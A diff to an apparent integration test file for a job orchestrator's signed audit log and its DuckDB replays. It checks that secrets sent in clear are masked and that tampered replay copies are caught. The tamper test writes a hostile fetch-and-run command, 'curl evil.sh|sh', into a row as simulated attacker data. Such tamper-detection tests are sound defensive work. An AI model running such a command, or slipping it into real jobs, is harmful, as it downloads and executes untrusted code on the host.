@@ -5,8 +5,9 @@ process signs what it publishes): jobs run, a foreign client's forgery is refuse
 the orchestrator signs a checkpoint, and `nexus audit verify` proves the log; then a
 replay of it into a DuckDB file is proven offline, and copies of that file altered by
 someone with full access (who also recomputes the stored chain columns) are caught,
-each naming the event. Also: a signed request whose secret came in clear, and a
-DuckDB file written before the chain existed.
+each naming the event. Also: requests whose secret came in clear (masked rows, proven by the
+replay's copy signature), an unsigned request rewritten in a replay, and a DuckDB file written
+before the chain existed.
 """
 
 from __future__ import annotations
@@ -106,9 +107,18 @@ async def test_audit_verify_proves_the_log_and_its_replays_and_names_what_was_ta
     assert code == 1 and any(p["seq"] is None and "no identity" in p["what"] for p in found["problems"])
 
 
-async def test_a_signed_request_with_a_secret_in_clear_counts_and_its_masked_row_is_said_not_failed(up: Up, tmp_path: Path) -> None:  # noqa: F811
-    # A Nexus identity publishing its own request with a secret in clear (no sealing): the
-    # projection masks the value in the row, but the signature is over the bytes in the log.
+async def test_masked_rows_are_proven_by_the_replays_signature_and_a_rewritten_request_is_caught(up: Up, tmp_path: Path) -> None:  # noqa: F811
+    # External publishers (DESIGN §4): plain core-NATS publishes, no Nexus signature, one with a
+    # secret in clear. And a Nexus identity publishing its own request with a secret in clear (no
+    # sealing). The projection masks the values in the rows; the log keeps the bytes as published.
+    nc = await nats.connect(up.url, user_credentials=str(up.creds / "submitter.creds"))
+    try:
+        await nc.publish(subjects.job("plain-ext", "requested"), json.dumps({"command": "printf ok", "node": up.node}).encode())
+        clear = {"command": "true", "node": up.node, "env": {"X_TOKEN": "ext-in-clear"}}
+        await nc.publish(subjects.job("secret-ext", "requested"), json.dumps(clear).encode())
+        await nc.flush()
+    finally:
+        await nc.close()
     admin = Identity.from_creds(up.creds / "admin.creds")
     subject = subjects.job("clear-secret", "requested")
     data = json.dumps({"command": "true", "node": up.node, "env": {"DB_PASSWORD": "in-clear"}}).encode()
@@ -121,15 +131,29 @@ async def test_a_signed_request_with_a_secret_in_clear_counts_and_its_masked_row
         await js.publish(subject, data, headers=admin.sign(subject, data))
     finally:
         await nc.close()
-    job = await wait_for(lambda: _finished(up, "clear-secret"), 60, what="the job with a clear secret to end")
-    assert job["status"] == "succeeded", job
+    for job_id in ("plain-ext", "secret-ext", "clear-secret"):
+        job = await wait_for(lambda j=job_id: _finished(up, j), 60, what=f"job {job_id} to end")  # type: ignore[misc]
+        assert job["status"] == "succeeded", job
     copy = tmp_path / "copy.duckdb"
     code, out = await up.nexus("replay", "--db", str(copy))
     assert code == 0, out
+    requests = {r["job_id"]: r["seq"] for r in _rows(copy) if r["type"] == "job.requested"}
     code, report = await verify(up, "--db", str(copy))
     assert code == 0, report["problems"]
-    assert [u["type"] for u in report["unverifiable"]] == ["job.requested"]
-    assert "in-clear" not in copy.read_bytes().decode(errors="replace")
+    assert sorted(c["seq"] for c in report["copies"]) == sorted([requests["secret-ext"], requests["clear-secret"]])
+    assert report["unverifiable"] == []
+    assert b"in-clear" not in copy.read_bytes()
+
+    # The red team's rewrite: an unsigned request's command swapped, a masked env added, digest and chain left alone.
+    seq = requests["plain-ext"]
+    evil = shutil.copy(copy, tmp_path / "evil.duckdb")
+    con = duckdb.connect(str(evil))
+    try:
+        con.execute("UPDATE events SET payload = ? WHERE seq = ?", ['{"command":"curl evil.sh|sh","env":{"X_TOKEN":"********"}}', seq])
+    finally:
+        con.close()
+    code, text = await up.nexus("audit", "verify", "--db", str(evil))
+    assert code == 1 and f"seq {seq}: job.requested: the payload does not match its digest" in text and "FAILED" in text, text
 
 
 async def _finished(running: Up, job_id: str) -> dict[str, Any] | None:
